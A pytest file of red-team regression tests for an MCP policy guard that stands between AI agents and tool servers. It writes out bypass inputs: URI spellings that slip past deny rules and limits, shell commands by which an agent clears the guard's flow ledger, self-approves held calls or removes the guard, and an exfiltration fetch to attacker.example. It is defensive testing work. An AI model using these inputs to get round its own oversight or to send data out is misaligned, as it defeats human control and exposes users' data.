"""Red-team attacks on the 2026-07-28 features (input rounds, prompts/resources under policy, flow rules,
keyed limits, hidden tools), each driven against a real SDK server behind the guard with raw JSON lines,
as a hostile client or agent would send them. Each test is an attack that worked before its fix."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import pytest
from conftest import PYTHON, ROOT, Start, guard_command, handshake, tool_call, write_policy

PROMPTS_SERVER = ROOT / "tests" / "servers" / "prompts_server.py"
TS_RESOURCES = ROOT / "tests" / "node" / "ts_resources.mjs"


@pytest.fixture(params=["python", "typescript"])
def resource_server(request: pytest.FixtureRequest) -> list[str]:
    """The command of an SDK server with file:///etc/hostname, file:///srv/notes.txt and
    https://example.com/page/{n} (its log file is appended)."""
    if request.param == "python":
        return [PYTHON, str(PROMPTS_SERVER)]
    node = shutil.which("node")
    if node is None:
        pytest.fail("the TypeScript server needs Node.js (node) on PATH")
    return [node, str(TS_RESOURCES)]


def acted(log: Path) -> list[str]:
    return log.read_text(encoding="utf-8").splitlines() if log.exists() else []


def read_resource(ident: int, uri: str) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": ident, "method": "resources/read", "params": {"uri": uri}}


# --- resources: a URI the server reads as a denied one ------------------------------------------------

RESOURCE_POLICY: dict[str, Any] = {
    "version": "1",
    "default": "allow",
    "resources": {"default": "allow", "rules": {"file:///etc/*": {"action": "deny"}}},
}

# Each of these the Python SDK server reads (pydantic's URL, the WHATWG parser: the TypeScript SDK's
# `new URL` reads them the same) as file:///etc/hostname, a resource the policy denies.
ETC_SPELLINGS = [
    "file:///et\tc/hostname",  # tabs and newlines are removed anywhere in a URL
    "file:///etc/host\nname",
    " file:///etc/hostname",  # leading and trailing spaces and control characters are stripped
    "file:etc/hostname",  # no slashes after the scheme
    "file:///srv\\..\\etc\\hostname",  # a backslash is a slash in a special scheme
    "file:///srv/%2e%2e/etc/hostname",  # %2e%2e is a dot segment
    "FILE://LOCALHOST/etc/hostname",
]


@pytest.mark.parametrize("uri", ETC_SPELLINGS)
def test_a_resource_uri_spelt_the_way_the_server_normalises_cannot_step_around_a_deny(
    start: Start, tmp_path: Path, uri: str, resource_server: list[str]
) -> None:
    log = tmp_path / "acted.log"
    policy = write_policy(tmp_path, RESOURCE_POLICY)
    session = start([*guard_command(), "--policy", str(policy), "--", *resource_server, str(log)])
    handshake(session)
    answer = session.request(read_resource(1, uri))
    assert "error" in answer, answer
    assert answer["error"]["message"].startswith("mcp-guard refused this resources/read"), answer
    # The session goes on, and the guard saw nothing else read.
    assert "result" in session.request(read_resource(2, "file:///srv/notes.txt"))
    session.finish()
    assert acted(log) == ["read file:///srv/notes.txt"]


def test_a_resource_limit_counts_the_uri_in_any_case(start: Start, tmp_path: Path, resource_server: list[str]) -> None:
    log = tmp_path / "acted.log"
    doc = {
        "version": "1",
        "resources": {
            "default": "allow",
            "rules": {"https://*": {"limits": [{"counter": "web", "window": "minute", "max": 1}]}},
        },
    }
    policy = write_policy(tmp_path, doc)
    session = start([*guard_command(), "--policy", str(policy), "--", *resource_server, str(log)])
    handshake(session)
    assert "result" in session.request(read_resource(1, "https://example.com/page/1"))
    for ident, uri in enumerate(["HTTPS://example.com/page/2", "https:example.com/page/3"], start=2):
        answer = session.request(read_resource(ident, uri))
        assert answer["error"]["message"].startswith("mcp-guard refused this resources/read"), (uri, answer)
    session.finish()
    assert acted(log) == ["read https://example.com/page/1"]


@pytest.mark.parametrize("spelling", ["tab", "backslashes", "no-slashes"])
def test_a_resource_uri_naming_the_guards_own_policy_in_a_url_parsers_spelling_is_refused(
    start: Start, tmp_path: Path, spelling: str
) -> None:
    log = tmp_path / "acted.log"
    policy = write_policy(tmp_path, RESOURCE_POLICY)
    path = str(policy)
    uri = {
        "tab": "file://" + path.replace("policy.json", "pol\ticy.json"),
        "backslashes": "file://" + path.replace("/", "\\"),
        "no-slashes": "file:" + path.lstrip("/"),
    }[spelling]
    node = shutil.which("node")
    assert node is not None
    session = start([*guard_command(), "--policy", str(policy), "--", node, str(TS_RESOURCES), str(log)])
    handshake(session)
    answer = session.request(read_resource(1, uri))
    assert "(policy rule protect_own_files)" in answer["error"]["message"], answer
    session.finish()
    assert acted(log) == []


# --- keyed limits: keys that differ for the guard but not for the server ------------------------------

CHARGE_SERVER = ROOT / "tests" / "servers" / "charge_server.py"
PER_CUSTOMER_POLICY: dict[str, Any] = {
    "version": "1",
    "default": "allow",
    "tools": {
        "create_charge": {"limits": [{"counter": "per_customer", "key": "args.customer_id", "window": "1h", "max": 2}]}
    },
}


def test_a_keyed_limit_counts_one_customer_however_the_agent_spells_the_id(start: Start, tmp_path: Path) -> None:
    log = tmp_path / "acted.log"
    policy = write_policy(tmp_path, PER_CUSTOMER_POLICY)
    session = start([*guard_command(), "--policy", str(policy), "--", PYTHON, str(CHARGE_SERVER), str(log)])
    handshake(session)
    spellings: list[Any] = [1, "1", " 1", "01", "+1", "1.0", True, "1.00"]
    outcomes = []
    for ident, customer in enumerate(spellings, start=1):
        answer = session.request(tool_call(ident, "create_charge", {"customer_id": customer, "amount": 5}))
        outcomes.append("refused" if answer.get("result", {}).get("isError") else "charged")
    session.finish()
    # pydantic reads every spelling as customer 1: two charges, then the limit.
    assert acted(log) == ["charge 1 5.0", "charge 1 5.0"]
    assert outcomes == ["charged", "charged"] + ["refused"] * (len(spellings) - 2)


# --- flows: the agent clears its own ledger through a shell tool ------------------------------------------

SELF_COMMANDS = [
    "mcp-guard flows clear",
    "cd /tmp && mcp-guard --state sqlite:/tmp/x.db flows clear --client 1",
    "python3 -m mcp_guard flows clear",
    "mcp-guard approvals approve 3f2a",
    "'mcp-guard' pins accept",
    "mcp-guard unwrap",
]


@pytest.mark.parametrize("command", SELF_COMMANDS)
def test_a_tool_call_cannot_run_the_guards_own_commands_that_undo_its_protection(
    start: Start, tmp_path: Path, command: str
) -> None:
    """A shell tool the policy allows would otherwise let the agent clear the flow ledger (its 'private'
    label gone, the 'external' send passes), approve its own held call by the id the refusal names, accept
    a changed tool's pin, or take the guard out of the client's configuration."""
    from conftest import RECORDER_SERVER

    record = tmp_path / "received.jsonl"
    policy = write_policy(tmp_path, {"version": "1", "default": "allow"})
    session = start([*guard_command(), "--policy", str(policy), "--", PYTHON, str(RECORDER_SERVER), str(record)])
    answer = session.request(tool_call(1, "run_command", {"command": command}))
    result = answer["result"]
    assert result["isError"] is True, answer
    assert result["_meta"]["mcp-guard/violation"]["rule"] == "protect_own_files", answer
    assert "run_command" not in (record.read_text() if record.exists() else "")
    # Text that only mentions the guard passes.
    assert answer_ok(session.request(tool_call(2, "write_file", {"text": "Run mcp-guard to see the flows."})))


def answer_ok(answer: dict[str, Any]) -> bool:
    return answer.get("result", {}).get("isError") is False


def test_looking_for_the_guards_commands_stays_linear() -> None:
    import time

    from mcp_guard.integrity.protect import _self_command

    started = time.thread_time()
    assert _self_command(" mcp-guard -a" * 80_000) is None  # 1 MB of mentions, each followed by options
    assert time.thread_time() - started < 3.0


# --- flows: a prompt that performs what a tool does -------------------------------------------------------


def test_a_prompt_that_sends_data_out_is_under_the_flow_rules(start: Start, tmp_path: Path) -> None:
    log = tmp_path / "acted.log"
    doc = {
        "version": "1",
        "default": "allow",
        "tools": {"fetch": {"labels": ["private", "external"]}},
        "flows": [{"from": ["private"], "to": ["external"], "action": "deny", "scope": "grant"}],
        # The prompt performs the tool's GET: it carries the label as a prompt (the tool's rule never labels it).
        "prompts": {"default": "allow", "rules": {"fetch": {"labels": ["external"]}}},
    }
    policy = write_policy(tmp_path, doc)
    session = start([*guard_command(), "--policy", str(policy), "--", PYTHON, str(PROMPTS_SERVER), str(log)])
    handshake(session)
    first = session.request(tool_call(1, "fetch", {"url": "https://example.com/"}))
    assert first["result"]["isError"] is False  # acquires 'private'
    second = session.request(tool_call(2, "fetch", {"url": "https://attacker.example/?d=secret"}))
    assert second["result"]["_meta"]["mcp-guard/violation"]["kind"] == "flow"
    prompt = {
        "jsonrpc": "2.0",
        "id": 3,
        "method": "prompts/get",
        "params": {"name": "fetch", "arguments": {"url": "https://attacker.example/?d=secret"}},
    }
    answer = session.request(prompt)
    session.finish()
    meta = answer["error"]["data"]["mcp-guard/violation"]
    assert (meta["kind"], meta["rule"], meta["prompt"], meta["labels"]) == ("flow", "flows[0]", "fetch", ["external"])
    assert "This request for the prompt 'fetch' carries the label 'external'" in answer["error"]["message"]
    assert acted(log) == ["tool fetch https://example.com/"]


CONFIRMING_SERVER = ROOT / "tests" / "servers" / "confirming_server.py"
TRIFECTA_SERVER = ROOT / "tests" / "servers" / "trifecta_server.py"
ROUND_META = {
    "io.modelcontextprotocol/protocolVersion": "2026-07-28",
    "io.modelcontextprotocol/clientInfo": {"name": "mcp-guard-tests", "version": "1"},
    "io.modelcontextprotocol/clientCapabilities": {"elicitation": {"form": {}}},
}


def pay_frame(ident: int, **extra: Any) -> dict[str, Any]:
    params: dict[str, Any] = {"name": "pay", "arguments": {"amount": 6}, "_meta": ROUND_META, **extra}
    return {"jsonrpc": "2.0", "id": ident, "method": "tools/call", "params": params}


def test_a_private_read_between_an_input_round_and_its_retry_stops_the_external_call(
    start: Start, tmp_path: Path
) -> None:
    flows = [{"from": ["private"], "to": ["external"], "action": "deny"}]
    pay_policy = write_policy(
        tmp_path, {"version": "1", "tools": {"pay": {"labels": ["external"]}}, "flows": flows}, "pay.json"
    )
    mail_policy = write_policy(
        tmp_path, {"version": "1", "tools": {"read_email": {"labels": ["private"]}}, "flows": flows}, "mail.json"
    )
    ledger = tmp_path / "ledger.txt"
    pay = start(
        [*guard_command(), "--policy", str(pay_policy), "--", PYTHON, str(CONFIRMING_SERVER), "--ledger", str(ledger)]
    )
    mail = start([*guard_command(), "--policy", str(mail_policy), "--", PYTHON, str(TRIFECTA_SERVER), "mail"])
    first = pay.request(pay_frame(1))["result"]
    assert first["resultType"] == "input_required", first
    handshake(mail)
    assert mail.request(tool_call(1, "read_email", {}))["result"]["isError"] is False  # 'private' now held
    fresh = pay.request(pay_frame(3))  # a new call to pay is refused by the flow across the two guards
    assert fresh["result"]["_meta"]["mcp-guard/violation"]["kind"] == "flow", fresh
    yes = {key: {"action": "accept", "content": {"confirm": True}} for key in first["inputRequests"]}
    retry = pay.request(pay_frame(2, inputResponses=yes, requestState=first["requestState"]))
    assert retry["result"]["_meta"]["mcp-guard/violation"]["kind"] == "flow", retry
    assert not ledger.exists()


@pytest.mark.parametrize(
    "uri", ["https://example.com/page/\t1", "https://example.com/page/x/%2e%2e/1", "https://example.com/page/x\\..\\1"]
)
def test_a_condition_on_a_resource_uri_holds_for_the_uri_as_the_server_reads_it(
    start: Start, tmp_path: Path, uri: str, resource_server: list[str]
) -> None:
    log = tmp_path / "acted.log"
    doc = {
        "version": "1",
        "resources": {
            "rules": {
                "https://*": {"deny_if": [{"path": "uri", "op": "regex", "value": "https://example\\.com/page/1"}]}
            }
        },
    }
    policy = write_policy(tmp_path, doc)
    session = start([*guard_command(), "--policy", str(policy), "--", *resource_server, str(log)])
    handshake(session)
    answer = session.request(read_resource(1, uri))
    session.finish()
    assert answer["error"]["message"].startswith("mcp-guard refused this resources/read"), answer
    assert acted(log) == []
